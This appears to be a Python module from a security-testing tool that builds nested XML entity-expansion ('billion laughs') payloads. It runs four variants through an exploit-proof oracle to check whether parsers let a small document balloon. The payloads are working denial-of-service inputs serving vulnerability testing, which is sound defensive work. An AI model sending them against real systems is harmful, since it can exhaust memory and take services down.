"""Documents whose entities grow without end."""

from __future__ import annotations

from pathlib import Path

from buckler.finding.evidence import ProofKind
from buckler.prove.model import Oracle, Probe, ProofRecipe, texts
from buckler.weaknesses.data.documents import DOMAIN, documents

PROBE = Path(__file__).with_name("probe.py")
LEVELS = "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcd", "bcde", strict=True))
START = f'<!DOCTYPE r [<!ENTITY a "0123456789ABCDEF">{LEVELS}]>'
ATTACKS = texts(
    (f"{START}<r>&e;</r>", "entities made of entities"),
    (f"<?xml version='1.0'?>{START}<r><a>&e;</a></r>", "the same further inside"),
    (f"{START}<r>report &e; report</r>", "the same among words"),
    (f"{START}<r>{'&d;' * 10}</r>", "many entities one after the other"),
)
BOMB = Oracle(
    ProofKind.EXPLOIT, "a small document grew to a large one", Probe(PROBE), ATTACKS, documents, domain=DOMAIN
)
PROOF = ProofRecipe(lambda _: [BOMB], document=".xml")
